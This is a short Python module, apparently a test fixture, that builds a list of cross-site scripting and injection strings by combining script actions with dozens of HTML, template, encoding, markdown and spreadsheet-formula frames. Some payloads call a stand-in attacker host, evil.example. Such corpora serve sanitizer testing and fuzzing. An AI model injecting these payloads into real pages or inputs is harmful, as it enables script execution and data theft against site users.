"""Strings that would run a script on a page that took text for markup, code or an address."""

import itertools

_ACTS = ("alert(1)", "window.hit=1", "fetch('//evil.example')")
_FRAMES = (
    "<script>{}</script>", "</script><script>{}</script>", "<img src=x onerror={}>", '"><img src=x onerror={}>',
    "'><svg onload={}>", "<svg><animate onbegin={} attributeName=x dur=1s>", "<details open ontoggle={}>x</details>",
    "<body onload={}>", "<iframe srcdoc='<script>{}</script>'>", "<a href=javascript:{}>x</a>", "javascript:{}",
    "data:text/html,<script>{}</script>", '" onmouseover={} x="', "' autofocus onfocus={} x='", "`${{{}}}`", "${{{}}}",
    "{{{{{}}}}}", "{{{{constructor.constructor('{}')()}}}}", "';{};//", '";{};//', "\\u003cscript\\u003e{}",
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}", "<math><mtext><img src onerror={}></mtext></math>",
    "<style>@import'//evil.example';</style>{}", "<!--><script>{}</script>-->", "]]><script>{}</script>",
    "<x contenteditable onblur={}>", "<input autofocus onfocus={}>", "<video><source onerror={}>",
    "<marquee onstart={}>", "datum.constructor.constructor('{}')()", "event.view.constructor('{}')",
    "=HYPERLINK(\"//evil.example\",\"{}\")", "\u202e<script>{}</script>", "<scr\u0000ipt>{}</script>",
    "<ſcript>{}</ſcript>", "＜script＞{}＜/script＞", "<script/src=//evil.example>{}", "<base href=//evil.example>{}",
    "<meta http-equiv=refresh content=0;url=javascript:{}>", "<object data=javascript:{}>", "<embed src=javascript:{}>",
    "<form action=javascript:{}><button>x</button></form>", "<link rel=stylesheet href=//evil.example>{}",
    "<template><script>{}</script></template>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<textarea></textarea><script>{}</script>", "<title></title><script>{}</script>", "%3Cscript%3E{}%3C/script%3E",
    "+ADw-script+AD4-{}+ADw-/script+AD4-", "<img src=`x` onerror=`{}`>", "<img\nsrc=x\nonerror={}>",
    "<svg/onload={}>", "<svg><use href=data:image/svg+xml,<svg/onload={}>></svg>", "\"}};{};//", "*/{}/*",
    "__proto__[x]={}", "constructor.prototype.x={}", "<xmp></xmp><script>{}</script>", "[x](javascript:{})",
    "![x](//evil.example/{})", "|x|\n|-|\n|<script>{}</script>|", "`</code><script>{}</script>`",
    "---\n<script>{}</script>",
    "\u2028{}", "<object type=text/x-scriptlet data={}>", "<isindex type=image src=1 onerror={}>",
)  # fmt: skip

STRINGS = tuple(frame.format(act) for act, frame in itertools.product(_ACTS, _FRAMES))
